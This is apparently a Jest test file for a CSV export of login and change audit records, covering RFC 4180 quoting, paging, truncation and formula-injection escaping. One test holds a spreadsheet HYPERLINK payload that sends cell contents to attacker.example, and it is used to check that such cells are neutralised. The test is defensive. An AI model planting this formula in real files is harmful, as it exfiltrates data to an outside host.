import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { AUDIT_CSV_COLUMNS, auditCsv, csvCell } from '../../../../src/core/audit/audit-csv.js';
import { AUDIT_PAGE_MAX, type AuditQuery, type AuditTrail, type LoginAuditRecord } from '../../../../src/core/audit/audit-trail.js';
import { MemoryAuditTrail } from '../../../support/memory-audit-trail.js';
import { auditRecordFactory } from '../../../support/audit-records.js';

const START = Date.UTC(2026, 0, 15, 12, 0, 0);

/** An RFC 4180 reader of our own, so the tests do not read the CSV with the code that wrote it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else cell += c;
  }
  if (quoted || cell !== '' || row.length > 0) throw new Error('the text does not end with CRLF');
  return rows;
}

const { login } = auditRecordFactory({ start: START, stepMs: 1000, full: true });

async function trailWith(records: Parameters<AuditTrail['record']>[0][]): Promise<MemoryAuditTrail> {
  const trail = new MemoryAuditTrail({ now: () => START });
  for (const record of records) await trail.record(record);
  return trail;
}

describe('auditCsv', () => {
  it('writes a header and one row per record in the fixed column order, newest first', async () => {
    const trail = await trailWith([
      login(2, { outcome: 'refused', code: 'user_domain_not_allowed' }),
      login(1),
      { kind: 'change', reference: 'R-0003-AAAA', time: START - 500, actor: '557058:admin', action: 'connection.update', fields: ['oidc.clientSecret', 'oidc.issuer'], outcome: 'ok', connectionId: 'conn-a' },
    ]);
    const { csv, rows, truncated } = await auditCsv(trail, {});
    expect(rows).toBe(3);
    expect(truncated).toBe(false);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv)).toEqual([
      [...AUDIT_CSV_COLUMNS],
      ['2026-01-15T11:59:59.500Z', 'R-0003-AAAA', 'change', 'ok', '', 'conn-a', '', '', '', '', '', '', '', '557058:admin', 'connection.update', 'oidc.clientSecret oidc.issuer'],
      ['2026-01-15T11:59:59.000Z', 'R-0001-AAAA', 'login', 'ok', '', 'conn-a', 'okta', 'sp', 'alice@example.com', 'sub-1', '_req1', '_resp1', '250', '', '', ''],
      ['2026-01-15T11:59:58.000Z', 'R-0002-AAAA', 'login', 'refused', 'user_domain_not_allowed', 'conn-a', 'okta', 'sp', 'alice@example.com', 'sub-2', '_req2', '_resp2', '250', '', '', ''],
    ]);
    expect(AUDIT_CSV_COLUMNS).toEqual(['time', 'reference', 'kind', 'outcome', 'code', 'connectionId', 'providerId', 'flow', 'email', 'subject', 'samlRequestId', 'samlResponseId', 'durationMs', 'actor', 'action', 'fields']);
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', async () => {
    const subject = 'Smith, "Jo"\r\nsecond line\nthird';
    const { csv } = await auditCsv(await trailWith([login(1, { subject })]), {});
    expect(csv).toContain('"Smith, ""Jo""\r\nsecond line\nthird"');
    expect(parseCsv(csv)[1]![AUDIT_CSV_COLUMNS.indexOf('subject')]).toBe(subject);
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a cell starting with %j against formula injection', async (start) => {
    const subject = `${start}HYPERLINK("https://attacker.example/?"&A1,"click")`;
    const { csv } = await auditCsv(await trailWith([login(1, { subject })]), {});
    expect(parseCsv(csv)[1]![AUDIT_CSV_COLUMNS.indexOf('subject')]).toBe(`'${subject}`);
  });

  it('leaves cells that only contain those characters later alone', () => {
    expect(csvCell('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(csvCell(" 'already")).toBe(" 'already");
    expect(csvCell(250)).toBe('250');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('-1')).toBe("'-1");
  });

  it('reads back every string as written, apostrophe-prefixed exactly when it starts like a formula', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 60 }), async (subject) => {
        const trail = await trailWith([login(1, { subject })]);
        const stored = ((await trail.get('R-0001-AAAA')) as LoginAuditRecord).subject!;
        const cell = parseCsv((await auditCsv(trail, {})).csv)[1]![AUDIT_CSV_COLUMNS.indexOf('subject')];
        expect(cell).toBe(/^[=+\-@\t\r]/.test(stored) ? `'${stored}` : stored);
      }),
      { numRuns: 200 },
    );
  });

  it('pages through the trail with the filters of the list', async () => {
    const records = Array.from({ length: 2 * AUDIT_PAGE_MAX + 30 }, (_, i) => login(i + 1, { email: i % 2 === 0 ? 'alice@example.com' : 'bob@example.com' }));
    const trail = await trailWith(records);
    const queries: AuditQuery[] = [];
    const counting: AuditTrail = { record: (r) => trail.record(r), get: (r) => trail.get(r), query: (q) => (queries.push(q), trail.query(q)) };
    const { csv, rows, truncated } = await auditCsv(counting, { email: 'BOB@example.com' });
    const bob = records.filter((r) => r.email === 'bob@example.com');
    expect(rows).toBe(bob.length);
    expect(truncated).toBe(false);
    expect(parseCsv(csv).slice(1).map((row) => row[1])).toEqual(bob.map((r) => r.reference));
    expect(queries.map((q) => q.limit)).toEqual([AUDIT_PAGE_MAX, AUDIT_PAGE_MAX]);
    expect(queries.every((q) => q.email === 'BOB@example.com')).toBe(true);
  });

  it('stops at maxRows and says the export is truncated', async () => {
    const trail = await trailWith(Array.from({ length: 12 }, (_, i) => login(i + 1)));
    const cut = await auditCsv(trail, {}, { maxRows: 5 });
    expect(cut.rows).toBe(5);
    expect(cut.truncated).toBe(true);
    expect(parseCsv(cut.csv)).toHaveLength(6);
    const exact = await auditCsv(trail, {}, { maxRows: 12 });
    expect(exact).toMatchObject({ rows: 12, truncated: false });
    await expect(auditCsv(trail, {}, { maxRows: 0 })).rejects.toBeInstanceOf(TypeError);
  });

  it('writes only the header when nothing matches', async () => {
    const { csv, rows } = await auditCsv(await trailWith([login(1)]), { outcome: 'refused' });
    expect(rows).toBe(0);
    expect(csv).toBe(`${AUDIT_CSV_COLUMNS.join(',')}\r\n`);
  });
});
